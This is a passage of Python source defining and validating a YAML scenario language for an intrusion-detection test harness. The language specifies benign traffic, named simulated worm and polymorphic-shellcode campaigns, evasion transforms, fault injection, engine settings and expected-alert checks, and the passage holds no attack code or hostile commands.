    "Bound", "CampaignSpec", "ChaosSpec", "EngineSpec", "EvasionSpec",
    "ExpectSpec", "ScenarioError", "ScenarioSpec", "SchemaKey",
    "TrafficSpec", "schema_keys", "validate",
    "load_scenario", "loads",
    "RESULT_SCHEMA", "CheckResult", "ScenarioResult", "build_trace",
    "derive_seed", "render_alert_stream", "run_scenario",
]

"""The scenario DSL schema: typed specs, defaulting, precise errors.

A scenario file is a YAML mapping that composes the repository's building
blocks — benign traffic (:mod:`repro.traffic`), attack campaigns
(:mod:`repro.engines`), evasion transforms
(:mod:`repro.traffic.evasion`), chaos injection
(:mod:`repro.resilience.chaos`), an analysis engine (:mod:`repro.nids`)
— plus an ``expect:`` block asserting what the run must produce.  This
module owns the *shape* of that mapping: every key, its type, default
and constraints, declared once in :data:`SCHEMA` and enforced by
:func:`validate`.

Two consumers read :data:`SCHEMA` besides the validator:

- ``docs/scenarios.md`` documents exactly these keys, and
  ``tools/check_docs.py`` diffs the doc against :func:`schema_keys` in
  both directions, so the DSL reference cannot drift;
- :func:`describe` renders the same table for ``repro-scenario list``.

Validation raises :class:`ScenarioError` with the YAML path of the
offending key (``campaigns[1].engine: unknown engine 'cletx'``) — one
actionable line, never a traceback, which is what the CLI prints.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

__all__ = [
    "SCHEMA", "SchemaKey", "ScenarioError",
    "ScenarioSpec", "TrafficSpec", "CampaignSpec", "EvasionSpec",
    "ChaosSpec", "EngineSpec", "ExpectSpec", "RecoverySpec", "Bound",
    "CAMPAIGN_ENGINES", "CHAOS_KINDS", "ENGINE_KINDS", "KILL_KINDS",
    "schema_keys", "validate",
]

MAX_SEED = 2**32 - 1

#: campaign engine -> the option keys (beyond the shared ones) it accepts.
CAMPAIGN_ENGINES: dict[str, frozenset[str]] = {
    "codered": frozenset({"scans", "count"}),
    "mailworm": frozenset({"count", "relay_net"}),
    "netsky": frozenset({"count", "size"}),
    "admmutate": frozenset({"count", "shellcode", "family"}),
    "clet": frozenset({"count", "shellcode"}),
    "metamorph": frozenset({"count", "shellcode", "junk_probability"}),
    "exploits": frozenset(),
}

#: keys every campaign accepts regardless of engine.
_CAMPAIGN_SHARED = frozenset({"engine", "at", "seed", "source", "target"})

CHAOS_KINDS = ("stall-payload", "decode-faults", "truncate-capture",
               "crash")
ENGINE_KINDS = ("serial", "parallel", "daemon", "fleet")
SHED_POLICIES = ("newest", "oldest", "block")
#: the seams a ``crash`` kill can land on (repro.resilience.recovery).
KILL_KINDS = ("mid-batch", "mid-checkpoint", "mid-journal-write")

#: degraded-alert templates the firewall can emit; legal in
#: ``expect.alerts.templates`` alongside the semantic template names.
DEGRADED_TEMPLATES = frozenset({
    "resilience.stage-fault", "resilience.deadline-exceeded",
})


class ScenarioError(ValueError):
    """A scenario file is malformed.  ``path`` names the YAML location."""

    def __init__(self, path: str, message: str) -> None:
        self.path = path
        self.message = message
        super().__init__(f"{path}: {message}" if path else message)


# ---------------------------------------------------------------------------
# the declarative key table (docs + validation share it)
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class SchemaKey:
    """One documented key of the DSL.

    ``path`` uses ``.`` for nesting and ``[]`` for list items
    (``campaigns[].engine``).  ``constraints`` is prose, shown verbatim
    in the reference table.
    """

    path: str
    type: str
    default: str
    doc: str
    constraints: str = ""


SCHEMA: list[SchemaKey] = [
    SchemaKey("scenario", "str", "—",
              "Scenario name (used in reports and result JSON).",
              "required; non-empty"),
    SchemaKey("description", "str", '""',
              "Free-form description."),
    SchemaKey("seed", "int", "0",
              "Master seed; every unset sub-seed is derived from it, so "
              "one integer pins the whole run.",
              f"0 <= seed <= {MAX_SEED}"),
    SchemaKey("traffic", "map", "absent",
              "Benign background mix (absent = no benign traffic)."),
    SchemaKey("traffic.conversations", "int", "0",
              "Benign conversations to generate "
              "(HTTP/DNS/SMTP/ICMP mix).", ">= 0"),
    SchemaKey("traffic.seed", "int | null", "null",
              "Mix seed; null derives from the master seed.",
              f"0 <= seed <= {MAX_SEED}"),
    SchemaKey("traffic.client_net", "str", '"192.168.0.0/22"',
              "Client address pool (CIDR)."),
    SchemaKey("traffic.server_net", "str", '"10.10.0.0/24"',
              "Server address pool (CIDR)."),
    SchemaKey("traffic.start_time", "float", "0.0",
              "Wire clock at the first conversation.", ">= 0"),
    SchemaKey("traffic.mean_gap", "float", "0.02",
              "Mean inter-conversation gap, seconds.", "> 0"),
    SchemaKey("traffic.radiation", "int", "0",
              "Background-radiation packets (backscatter, worm residue) "
              "mixed in.", ">= 0"),
    SchemaKey("campaigns", "list", "[]",
              "Attack campaigns, one mapping per infected/attacking "
              "host."),
    SchemaKey("campaigns[].engine", "str", "—",
              "Attack engine.",
              "required; one of: " + ", ".join(sorted(CAMPAIGN_ENGINES))),
    SchemaKey("campaigns[].at", "float", "1.0",
              "Campaign start time on the shared clock, seconds.", ">= 0"),
    SchemaKey("campaigns[].seed", "int | null", "null",
              "Campaign seed; null derives from the master seed and the "
              "campaign index.", f"0 <= seed <= {MAX_SEED}"),
    SchemaKey("campaigns[].source", "str", "engine-specific",
              "Attacker / infected host address."),
    SchemaKey("campaigns[].target", "str", "engine-specific",
              "Victim / honeypot address (ignored by mailworm, which "
              "picks relays from relay_net)."),
    SchemaKey("campaigns[].count", "int", "engine-specific",
              "Instances: exploit conversations (codered, admmutate, "
              "clet, metamorph, netsky) or SMTP relays (mailworm).",
              ">= 1"),
    SchemaKey("campaigns[].scans", "int", "40",
              "codered only: SYN probes in the scan burst before the "
              "exploit.", ">= 0"),
    SchemaKey("campaigns[].relay_net", "str", '"10.10.1."',
              "mailworm only: relay subnet prefix."),
    SchemaKey("campaigns[].size", "int", "22528",
              "netsky only: worm body size in bytes.", ">= 1024"),
    SchemaKey("campaigns[].shellcode", "str", '"classic-execve"',
              "admmutate / clet / metamorph: payload from the shellcode "
              "corpus.", "a repro.engines.shellcode_names() entry"),
    SchemaKey("campaigns[].family", "str | null", "null",
              "admmutate only: force a decoder family.",
              'one of: "xor", "mov-or-and-not"'),
    SchemaKey("campaigns[].junk_probability", "float", "0.35",
              "metamorph only: junk-insertion probability.",
              "0 <= p <= 1"),
    SchemaKey("evasion", "list", "[]",
              "Trace transforms applied in order to the merged trace "
              "(attacker-side reassembly attacks)."),
    SchemaKey("evasion[].transform", "str", "—",
              "Transform name.",
              "required; a repro.traffic.evasion_names() entry"),
    SchemaKey("evasion[].seed", "int | null", "null",
              "Transform seed; null derives from the master seed and "
              "the transform index.", f"0 <= seed <= {MAX_SEED}"),
    SchemaKey("chaos", "list", "[]",
              "Seeded fault injection riding along with the trace."),
    SchemaKey("chaos[].kind", "str", "—",
              "Fault kind.", "required; one of: " + ", ".join(CHAOS_KINDS)),
    SchemaKey("chaos[].at", "float", "1.0",
              "stall-payload only: injection time.", ">= 0"),
    SchemaKey("chaos[].instructions", "int", "40000",
              "stall-payload only: instructions the stall body decodes "
              "to.", ">= 1000"),
    SchemaKey("chaos[].source", "str", '"10.66.6.6"',
              "stall-payload only: sender of the stall datagram."),
    SchemaKey("chaos[].target", "str", '"10.10.0.9"',
              "stall-payload only: destination of the stall datagram."),
    SchemaKey("chaos[].count", "int", "1",
              "decode-faults: packets whose classify call raises; "
              "stall-payload: stall datagrams injected.", ">= 1"),
    SchemaKey("chaos[].seed", "int | null", "null",
              "decode-faults only: injector seed; null derives from the "
              "master seed.", f"0 <= seed <= {MAX_SEED}"),
    SchemaKey("chaos[].drop_bytes", "int", "8",
              "truncate-capture only: bytes cut off the end of the "
              "written capture (the run then goes through a real pcap "
              "round-trip with salvage).", ">= 1"),
    SchemaKey("chaos[].kills", "list[int]", "—",
              "crash only: global packet marks (processed count for the "
              "daemon, dispatch seq for the fleet) where the process is "
              "killed; each kill abandons the incarnation and the next "
              "one resumes from the checkpoints.",
              "required for crash; each >= 0"),
    SchemaKey("chaos[].kill_kind", "str", '"mid-batch"',
              "crash only: the seam the kill lands on.",
              "one of: " + ", ".join(KILL_KINDS)),
    SchemaKey("chaos[].checkpoint_interval", "int", "100",
              "crash only: processed/dispatched packets between "
              "checkpoints.", ">= 1"),
    SchemaKey("engine", "map", "serial defaults",
              "Which analysis engine runs the trace."),
    SchemaKey("engine.kind", "str", '"serial"',
              "Engine flavour.", "one of: " + ", ".join(ENGINE_KINDS)),
    SchemaKey("engine.workers", "int", "2",
              "parallel / fleet only: worker processes.", ">= 2"),
    SchemaKey("engine.template_set", "str", '"paper"',
              "Named template set every engine kind can rebuild.",
              "a repro.nids.parallel.TEMPLATE_SETS name"),
    SchemaKey("engine.options", "map", "{}",
              "Engine construction knobs, passed through to "
              "repro.nids.SemanticNids (validated subset; see below)."),
    SchemaKey("engine.options.classification_enabled", "bool", "true",
              "false analyzes every payload (the paper's §5.4 mode)."),
    SchemaKey("engine.options.honeypots", "list[str]", "[]",
              "Decoy addresses."),
    SchemaKey("engine.options.dark_networks", "list[str] | null", "null",
              "Unused address space (CIDRs)."),
    SchemaKey("engine.options.dark_exclude", "list[str] | null", "null",
              "Used subnets carved out of dark space."),
    SchemaKey("engine.options.dark_threshold", "int", "5",
              "Dark-space scan threshold t.", ">= 1"),
    SchemaKey("engine.options.smtp_fanout_threshold", "int | null", "null",
              "Distinct-relay threshold of the SMTP fan-out monitor "
              "(null = monitor off)."),
    SchemaKey("engine.options.analysis_deadline_ms", "float | null", "null",
              "Per-payload analysis budget in deterministic instruction "
              "units (10000/ms); null = unbounded.", "> 0"),
    SchemaKey("engine.options.max_streams", "int", "65536",
              "Bound on concurrently tracked TCP streams.", ">= 1"),
    SchemaKey("engine.options.fastpath", "bool", "true",
              "Template anchor prefilter on/off (alert stream is "
              "byte-identical either way)."),
    SchemaKey("engine.options.compiled", "bool", "true",
              "Compiled match plans on/off (alert stream is "
              "byte-identical either way)."),
    SchemaKey("engine.daemon", "map", "{}",
              "daemon kind only: ingestion tuning."),
    SchemaKey("engine.daemon.ring_capacity", "int", "4096",
              "Bounded admission ring size, packets.", ">= 1"),
    SchemaKey("engine.daemon.shed_policy", "str", '"block"',
              "Ring-full behaviour.  The scenario default is block "
              "(lossless) so runs stay deterministic; shedding policies "
              "trade that away.",
              "one of: " + ", ".join(SHED_POLICIES)),
    SchemaKey("engine.daemon.batch_size", "int", "256",
              "Packets per cooperative tick.", ">= 1"),
    SchemaKey("expect", "map", "absent",
              "Assertions evaluated after the run; any failure makes "
              "the scenario (and repro-scenario run) fail."),
    SchemaKey("expect.alerts", "map", "absent",
              "Alert-stream assertions."),
    SchemaKey("expect.alerts.total", "int | map", "absent",
              "Total alert count: an exact int, or {min, max}."),
    SchemaKey("expect.alerts.templates", "map", "absent",
              "Per-template alert-count bounds; keys must exist in the "
              "engine's template set (or be a degraded-alert template), "
              "so a renamed template fails validation, not silently."),
    SchemaKey("expect.alerts.sources", "list[str]", "absent",
              "Exact set of alert source addresses."),
    SchemaKey("expect.metrics", "map", "absent",
              "Bounds on registry metrics by name ({min, max}; value is "
              "summed over labels)."),
    SchemaKey("expect.digest", "str | null", "null",
              "Pinned sha256 hex digest of the rendered alert stream "
              "(the byte-exact reproducibility contract)."),
    SchemaKey("expect.recovery", "map", "absent",
              "Crash-recovery assertions; requires a chaos entry of "
              "kind crash."),
    SchemaKey("expect.recovery.parity", "bool", "true",
              "Assert the recovered post-dedupe alert stream is "
              "byte-identical to an uninterrupted reference run's."),
    SchemaKey("expect.recovery.restarts", "int | map", "absent",
              "Bounds on crashes survived (kills that actually fired)."),
    SchemaKey("expect.recovery.replayed", "int | map", "absent",
              "Bounds on journaled alerts replayed across all "
              "restarts."),
    SchemaKey("expect.recovery.deduped", "int | map", "absent",
              "Bounds on duplicate alerts suppressed across all "
              "restarts."),
]


def schema_keys() -> list[str]:
    """Every documented key path, in declaration order."""
    return [k.path for k in SCHEMA]


def describe() -> list[SchemaKey]:
    """The full key table (for ``repro-scenario list``)."""
    return list(SCHEMA)


def _children(prefix: str) -> set[str]:
    """Immediate child key names under ``prefix`` in :data:`SCHEMA`."""
    out = set()
    for key in SCHEMA:
        if key.path.startswith(prefix):
            rest = key.path[len(prefix):]
            if rest and "." not in rest and "[]" not in rest:
                out.add(rest)
    return out


# ---------------------------------------------------------------------------
# typed specs
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Bound:
    """A count/value constraint: exact, or a [min, max] window."""

    exact: float | None = None
    min: float | None = None
    max: float | None = None

    def check(self, value: float) -> bool:
        if self.exact is not None and value != self.exact:
            return False
        if self.min is not None and value < self.min:
            return False
        if self.max is not None and value > self.max:
            return False
        return True

    def describe(self) -> str:
        if self.exact is not None:
            return f"== {self.exact:g}"
        parts = []
        if self.min is not None:
            parts.append(f">= {self.min:g}")
        if self.max is not None:
            parts.append(f"<= {self.max:g}")
        return " and ".join(parts) or "anything"


@dataclass(frozen=True)
class TrafficSpec:
    conversations: int = 0
    seed: int | None = None
    client_net: str = "192.168.0.0/22"
    server_net: str = "10.10.0.0/24"
    start_time: float = 0.0
    mean_gap: float = 0.02
    radiation: int = 0


@dataclass(frozen=True)
class CampaignSpec:
    engine: str
    at: float = 1.0
    seed: int | None = None
    source: str | None = None
    target: str | None = None
    options: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class EvasionSpec:
    transform: str
    seed: int | None = None


@dataclass(frozen=True)
class ChaosSpec:
    kind: str
    options: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class EngineSpec:
    kind: str = "serial"
    workers: int = 2
    template_set: str = "paper"
    options: dict[str, Any] = field(default_factory=dict)
    daemon: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class RecoverySpec:
    """``expect.recovery``: crash-run assertions."""

    parity: bool = True
    restarts: Bound | None = None
    replayed: Bound | None = None
    deduped: Bound | None = None


@dataclass(frozen=True)
class ExpectSpec:
    total: Bound | None = None
    templates: dict[str, Bound] = field(default_factory=dict)
    sources: frozenset[str] | None = None
    metrics: dict[str, Bound] = field(default_factory=dict)
    digest: str | None = None
    recovery: RecoverySpec | None = None

    @property
    def empty(self) -> bool:
        return (self.total is None and not self.templates
                and self.sources is None and not self.metrics
                and self.digest is None and self.recovery is None)


@dataclass(frozen=True)
class ScenarioSpec:
    name: str
    description: str = ""
    seed: int = 0
    traffic: TrafficSpec | None = None
    campaigns: tuple[CampaignSpec, ...] = ()
    evasion: tuple[EvasionSpec, ...] = ()
    chaos: tuple[ChaosSpec, ...] = ()
    engine: EngineSpec = field(default_factory=EngineSpec)
    expect: ExpectSpec = field(default_factory=ExpectSpec)


# ---------------------------------------------------------------------------
# validation machinery
# ---------------------------------------------------------------------------

_TYPE_NAMES = {str: "str", int: "int", float: "float", bool: "bool",
               dict: "map", list: "list"}


def _type_name(value: Any) -> str:
    for cls, name in _TYPE_NAMES.items():
        # bool is an int subclass: test exact class first.
        if type(value) is cls:
            return name
    return type(value).__name__


class _Ctx:
    """A mapping being validated, with its YAML path for error messages."""

    def __init__(self, data: dict, path: str) -> None:
        self.data = data
        self.path = path
        self.seen: set[str] = set()

    def err(self, key: str, message: str) -> ScenarioError:
        where = f"{self.path}.{key}" if self.path else key
        return ScenarioError(where, message)

    def reject_unknown(self, allowed: set[str],
                       context: str = "") -> None:
        for key in self.data:
            if key not in allowed:
                hint = f" of {context}" if context else ""
                raise self.err(
                    str(key),
                    f"unknown key{hint}; expected one of: "
                    + ", ".join(sorted(allowed)))

    def get(self, key: str, types: tuple[type, ...], default: Any = None,
            *, required: bool = False, minimum: float | None = None,
            maximum: float | None = None, choices=None,
            allow_none: bool = False) -> Any:
        self.seen.add(key)
        if key not in self.data:
            if required:
                raise self.err(key, "required key is missing")
            return default
        value = self.data[key]
        if value is None and allow_none:
            return None
        # bool satisfies isinstance(..., int); keep the kinds distinct.
        if type(value) is bool and bool not in types:
            raise self.err(key, f"expected {_TYPE_NAMES[types[0]]}, "
                                f"got bool ({value!r})")
        if float in types and type(value) is int:
            value = float(value)
        if not isinstance(value, types):
            expected = " or ".join(_TYPE_NAMES.get(t, t.__name__)
                                   for t in types)
            raise self.err(key, f"expected {expected}, got "
                                f"{_type_name(value)} ({value!r})")
        if isinstance(value, str) and required and not value.strip():
            raise self.err(key, "must not be empty")
        if minimum is not None and value < minimum:
            raise self.err(key, f"must be >= {minimum:g}, got {value!r}")
        if maximum is not None and value > maximum:
            raise self.err(key, f"must be <= {maximum:g}, got {value!r}")
        if choices is not None and value not in choices:
            raise self.err(key, f"unknown value {value!r}; expected one "
                                f"of: {', '.join(sorted(choices))}")
        return value

    def get_seed(self, key: str = "seed") -> int | None:
        return self.get(key, (int,), default=None, allow_none=True,
                        minimum=0, maximum=MAX_SEED)

    def str_list(self, key: str, default=None) -> list[str] | None:
        value = self.get(key, (list,), default=default, allow_none=True)
        if value is default or value is None:
            return value
        for i, item in enumerate(value):
            if not isinstance(item, str):
                raise ScenarioError(
                    f"{self.path}.{key}[{i}]" if self.path else f"{key}[{i}]",
                    f"expected str, got {_type_name(item)} ({item!r})")
        return list(value)


def _sub(data: dict, key: str, path: str) -> _Ctx:
    return _Ctx(data[key], f"{path}.{key}" if path else key)


def _mapping(value: Any, path: str) -> dict:
    if not isinstance(value, dict):
        raise ScenarioError(path, f"expected a mapping, got "
                                  f"{_type_name(value)} ({value!r})")
    return value


def _bound(value: Any, path: str, *, integral: bool = True) -> Bound:
    """Parse an int (exact) or a {min, max} mapping into a :class:`Bound`."""
    number = (int,) if integral else (int, float)
    if isinstance(value, bool):
        raise ScenarioError(path, f"expected a count or {{min, max}}, "
                                  f"got bool ({value!r})")
    if isinstance(value, number):
        if value < 0:
            raise ScenarioError(path, f"must be >= 0, got {value!r}")
        return Bound(exact=value)
    mapping = _mapping(value, path)
    ctx = _Ctx(mapping, path)
    ctx.reject_unknown({"min", "max"}, "a bound")
    lo = ctx.get("min", number, default=None, allow_none=True, minimum=0)
    hi = ctx.get("max", number, default=None, allow_none=True, minimum=0)
    if lo is None and hi is None:
        raise ScenarioError(path, "empty bound: give an exact count or "
                                  "min/max")
    if lo is not None and hi is not None and lo > hi:
        raise ScenarioError(path, f"min {lo:g} exceeds max {hi:g}")
    return Bound(min=lo, max=hi)


# ---------------------------------------------------------------------------
# section validators
# ---------------------------------------------------------------------------


def _validate_traffic(ctx: _Ctx) -> TrafficSpec:
    ctx.reject_unknown(_children("traffic."), "traffic")
    return TrafficSpec(
        conversations=ctx.get("conversations", (int,), default=0, minimum=0),
        seed=ctx.get_seed(),
        client_net=ctx.get("client_net", (str,), default="192.168.0.0/22"),
        server_net=ctx.get("server_net", (str,), default="10.10.0.0/24"),
        start_time=ctx.get("start_time", (float,), default=0.0, minimum=0),
        mean_gap=ctx.get("mean_gap", (float,), default=0.02, minimum=1e-9),
        radiation=ctx.get("radiation", (int,), default=0, minimum=0),
    )


def _validate_campaign(ctx: _Ctx) -> CampaignSpec:
    engine = ctx.get("engine", (str,), required=True,
                     choices=set(CAMPAIGN_ENGINES))
    allowed = _CAMPAIGN_SHARED | CAMPAIGN_ENGINES[engine]
    for key in ctx.data:
        if key not in allowed:
            if key in _children("campaigns[]."):
                raise ctx.err(key, f"not an option of engine {engine!r} "
                                   f"(its options: "
                                   f"{', '.join(sorted(CAMPAIGN_ENGINES[engine])) or 'none'})")
            raise ctx.err(key, "unknown key of a campaign; expected one "
                               "of: " + ", ".join(sorted(allowed)))
    options: dict[str, Any] = {}
    if "count" in allowed:
        options["count"] = ctx.get("count", (int,), default=None,
                                   allow_none=True, minimum=1)
    if engine == "codered":
        options["scans"] = ctx.get("scans", (int,), default=40, minimum=0)
    if engine == "mailworm":
        options["relay_net"] = ctx.get("relay_net", (str,),
                                       default="10.10.1.")
    if engine == "netsky":
        options["size"] = ctx.get("size", (int,), default=22 * 1024,
                                  minimum=1024)
    if engine in ("admmutate", "clet", "metamorph"):
        from ..engines import shellcode_names

        options["shellcode"] = ctx.get("shellcode", (str,),
                                       default="classic-execve",
                                       choices=set(shellcode_names()))
    if engine == "admmutate":
        options["family"] = ctx.get("family", (str,), default=None,
                                    allow_none=True,
                                    choices={"xor", "mov-or-and-not"})
    if engine == "metamorph":
        options["junk_probability"] = ctx.get(
            "junk_probability", (float,), default=0.35,
            minimum=0.0, maximum=1.0)
    return CampaignSpec(
        engine=engine,
        at=ctx.get("at", (float,), default=1.0, minimum=0),
        seed=ctx.get_seed(),
        source=ctx.get("source", (str,), default=None, allow_none=True),
        target=ctx.get("target", (str,), default=None, allow_none=True),
        options={k: v for k, v in options.items() if v is not None},
    )


def _validate_evasion(ctx: _Ctx) -> EvasionSpec:
    from ..traffic.evasion import evasion_names

    ctx.reject_unknown({"transform", "seed"}, "an evasion entry")
    return EvasionSpec(
        transform=ctx.get("transform", (str,), required=True,
                          choices=set(evasion_names())),
        seed=ctx.get_seed(),
    )


def _validate_chaos(ctx: _Ctx, engine_kind: str) -> ChaosSpec:
    kind = ctx.get("kind", (str,), required=True, choices=set(CHAOS_KINDS))
    per_kind = {
        "stall-payload": {"at", "instructions", "source", "target", "count"},
        "decode-faults": {"count", "seed"},
        "truncate-capture": {"drop_bytes"},
        "crash": {"kills", "kill_kind", "checkpoint_interval"},
    }[kind]
    for key in ctx.data:
        if key != "kind" and key not in per_kind:
            if key in _children("chaos[]."):
                raise ctx.err(key, f"not an option of chaos kind {kind!r} "
                                   f"(its options: "
                                   f"{', '.join(sorted(per_kind))})")
            raise ctx.err(key, "unknown key of a chaos entry; expected "
                               "one of: kind, " + ", ".join(sorted(per_kind)))
    options: dict[str, Any] = {}
    if kind == "stall-payload":
        options["at"] = ctx.get("at", (float,), default=1.0, minimum=0)
        options["instructions"] = ctx.get("instructions", (int,),
                                          default=40_000, minimum=1000)
        options["source"] = ctx.get("source", (str,), default="10.66.6.6")
        options["target"] = ctx.get("target", (str,), default="10.10.0.9")
        options["count"] = ctx.get("count", (int,), default=1, minimum=1)
    elif kind == "decode-faults":
        if engine_kind == "fleet":
            raise ctx.err("kind", "decode-faults cannot hook the fleet "
                                  "engine (classification happens inside "
                                  "worker processes); use serial, "
                                  "parallel, or daemon")
        options["count"] = ctx.get("count", (int,), default=1, minimum=1)
        options["seed"] = ctx.get_seed()
    elif kind == "truncate-capture":
        options["drop_bytes"] = ctx.get("drop_bytes", (int,), default=8,
                                        minimum=1)
    elif kind == "crash":
        if engine_kind not in ("daemon", "fleet"):
            raise ctx.err("kind",
                          "crash chaos needs an engine with the "
                          "durability layer (checkpoints + journal); "
                          "set engine.kind to daemon or fleet")
        kills = ctx.get("kills", (list,), required=True)
        if not kills:
            raise ctx.err("kills", "must name at least one kill mark")
        for i, mark in enumerate(kills):
            if type(mark) is bool or not isinstance(mark, int) or mark < 0:
                raise ScenarioError(
                    f"{ctx.path}.kills[{i}]",
                    f"expected an int >= 0, got {mark!r}")
        options["kills"] = list(kills)
        options["kill_kind"] = ctx.get("kill_kind", (str,),
                                       default="mid-batch",
                                       choices=set(KILL_KINDS))
        options["checkpoint_interval"] = ctx.get(
            "checkpoint_interval", (int,), default=100, minimum=1)
    return ChaosSpec(kind=kind,
                     options={k: v for k, v in options.items()
                              if v is not None})


def _validate_engine_options(ctx: _Ctx) -> dict[str, Any]:
    ctx.reject_unknown(_children("engine.options."), "engine.options")
    options: dict[str, Any] = {}

    def put(key: str, value: Any) -> None:
        if value is not None:
            options[key] = value

    put("classification_enabled",
        ctx.get("classification_enabled", (bool,), default=None,
                allow_none=True))
    put("honeypots", ctx.str_list("honeypots"))
    put("dark_networks", ctx.str_list("dark_networks"))
    put("dark_exclude", ctx.str_list("dark_exclude"))
    put("dark_threshold", ctx.get("dark_threshold", (int,), default=None,
                                  allow_none=True, minimum=1))
    put("smtp_fanout_threshold",
        ctx.get("smtp_fanout_threshold", (int,), default=None,
                allow_none=True, minimum=1))
    put("analysis_deadline_ms",
        ctx.get("analysis_deadline_ms", (float,), default=None,
                allow_none=True, minimum=1e-9))
    put("max_streams", ctx.get("max_streams", (int,), default=None,
                               allow_none=True, minimum=1))
    put("fastpath", ctx.get("fastpath", (bool,), default=None,
                            allow_none=True))
    put("compiled", ctx.get("compiled", (bool,), default=None,
                            allow_none=True))
    return options


def _validate_engine(ctx: _Ctx) -> EngineSpec:
    from ..nids.parallel import TEMPLATE_SETS

    ctx.reject_unknown(_children("engine."), "engine")
    kind = ctx.get("kind", (str,), default="serial",
                   choices=set(ENGINE_KINDS))
    workers = ctx.get("workers", (int,), default=None, allow_none=True,
                      minimum=2)
    if workers is not None and kind in ("serial", "daemon"):
        raise ctx.err("workers",
                      f"only meaningful for parallel/fleet engines "
                      f"(engine.kind is {kind!r}); remove it or switch "
                      f"kinds")
    template_set = ctx.get("template_set", (str,), default="paper",
                           choices=set(TEMPLATE_SETS))
    options: dict[str, Any] = {}
    if "options" in ctx.data:
        options = _validate_engine_options(
            _Ctx(_mapping(ctx.data["options"], f"{ctx.path}.options"),
                 f"{ctx.path}.options"))
        ctx.seen.add("options")
    daemon: dict[str, Any] = {}
    if "daemon" in ctx.data:
        if kind != "daemon":
            raise ctx.err("daemon",
                          f"daemon tuning conflicts with engine.kind "
                          f"{kind!r}; set kind: daemon or drop the block")
        dctx = _Ctx(_mapping(ctx.data["daemon"], f"{ctx.path}.daemon"),
                    f"{ctx.path}.daemon")
        dctx.reject_unknown(_children("engine.daemon."), "engine.daemon")
        daemon = {
            "ring_capacity": dctx.get("ring_capacity", (int,),
                                      default=4096, minimum=1),
            "shed_policy": dctx.get("shed_policy", (str,), default="block",
                                    choices=set(SHED_POLICIES)),
            "batch_size": dctx.get("batch_size", (int,), default=256,
                                   minimum=1),
        }
    if (kind == "fleet" and
            options.get("smtp_fanout_threshold") is not None):
        raise ctx.err("options",
                      "smtp_fanout_threshold needs cross-flow classifier "
                      "state, which the fleet engine shards per source; "
                      "use serial, parallel, or daemon")
    if (options.get("classification_enabled") is False and
            options.get("smtp_fanout_threshold") is not None):
        raise ctx.err("options",
                      "smtp_fanout_threshold is dead weight with "
                      "classification_enabled: false — the fan-out "
                      "monitor lives inside the classifier, which a "
                      "classify-everything run never consults; drop one "
                      "of the two")
    return EngineSpec(kind=kind, workers=workers or 2,
                      template_set=template_set, options=options,
                      daemon=daemon)


def _validate_expect(ctx: _Ctx, engine: EngineSpec) -> ExpectSpec:
    ctx.reject_unknown(_children("expect."), "expect")
    total: Bound | None = None
    templates: dict[str, Bound] = {}
    sources: frozenset[str] | None = None
    if "alerts" in ctx.data:
        actx = _Ctx(_mapping(ctx.data["alerts"], f"{ctx.path}.alerts"),
                    f"{ctx.path}.alerts")
        actx.reject_unknown(_children("expect.alerts."), "expect.alerts")
        if "total" in actx.data:
            total = _bound(actx.data["total"], f"{actx.path}.total")
        if "templates" in actx.data:
            tmap = _mapping(actx.data["templates"],
                            f"{actx.path}.templates")
            known = _known_templates(engine.template_set)
            for name, raw in tmap.items():
                where = f"{actx.path}.templates.{name}"
                if name not in known:
                    raise ScenarioError(
                        where,
                        f"template {name!r} is not in template set "
                        f"{engine.template_set!r} (known: "
                        f"{', '.join(sorted(known))})")
                templates[name] = _bound(raw, where)
        raw_sources = actx.str_list("sources")
        if raw_sources is not None:
            sources = frozenset(raw_sources)
    metrics: dict[str, Bound] = {}
    if "metrics" in ctx.data:
        mmap = _mapping(ctx.data["metrics"], f"{ctx.path}.metrics")
        for name, raw in mmap.items():
            if not isinstance(name, str) or not name.startswith("repro_"):
                raise ScenarioError(
                    f"{ctx.path}.metrics.{name}",
                    f"metric names are repro_* registry names, got "
                    f"{name!r}")
            metrics[name] = _bound(raw, f"{ctx.path}.metrics.{name}",
                                   integral=False)
    digest = ctx.get("digest", (str,), default=None, allow_none=True)
    if digest is not None:
        digest = digest.lower().removeprefix("sha256:")
        if len(digest) != 64 or set(digest) - set("0123456789abcdef"):
            raise ctx.err("digest", "expected a 64-char sha256 hex digest "
                                    "(optionally 'sha256:'-prefixed)")
    recovery: RecoverySpec | None = None
    if "recovery" in ctx.data:
        rctx = _Ctx(_mapping(ctx.data["recovery"], f"{ctx.path}.recovery"),
                    f"{ctx.path}.recovery")
        rctx.reject_unknown(_children("expect.recovery."),
                            "expect.recovery")
        bounds = {}
        for key in ("restarts", "replayed", "deduped"):
            bounds[key] = (_bound(rctx.data[key], f"{rctx.path}.{key}")
                           if key in rctx.data else None)
        recovery = RecoverySpec(
            parity=rctx.get("parity", (bool,), default=True),
            **bounds)
    return ExpectSpec(total=total, templates=templates, sources=sources,
                      metrics=metrics, digest=digest, recovery=recovery)


def _known_templates(template_set: str) -> frozenset[str]:
    """Template names resolvable in ``template_set``, plus the degraded
    templates the firewall can emit (expectable under chaos)."""
    from ..nids.parallel import resolve_template_set

    return (frozenset(t.name for t in resolve_template_set(template_set))
            | DEGRADED_TEMPLATES)


# ---------------------------------------------------------------------------
# entry point
# ---------------------------------------------------------------------------


def validate(data: Any, source: str = "<scenario>") -> ScenarioSpec:
    """Validate a parsed YAML document into a :class:`ScenarioSpec`.

    Raises :class:`ScenarioError` (never anything else) on the first
    problem, naming the YAML path of the offending key.
    """
    try:
        return _validate(data)
    except ScenarioError:
        raise
    except Exception as exc:  # pragma: no cover - belt and braces
        raise ScenarioError("", f"{source}: {type(exc).__name__}: {exc}")


def _validate(data: Any) -> ScenarioSpec:
    root = _Ctx(_mapping(data, "<document>"), "")
    root.reject_unknown(_children(""), "a scenario")
    name = root.get("scenario", (str,), required=True)
    seed = root.get("seed", (int,), default=0, minimum=0, maximum=MAX_SEED)
    engine = EngineSpec()
    if "engine" in root.data:
        engine = _validate_engine(_sub(root.data, "engine", ""))
    traffic = None
    if "traffic" in root.data:
        traffic = _validate_traffic(
            _Ctx(_mapping(root.data["traffic"], "traffic"), "traffic"))
    campaigns = []
    if "campaigns" in root.data:
        raw = root.get("campaigns", (list,), default=[])
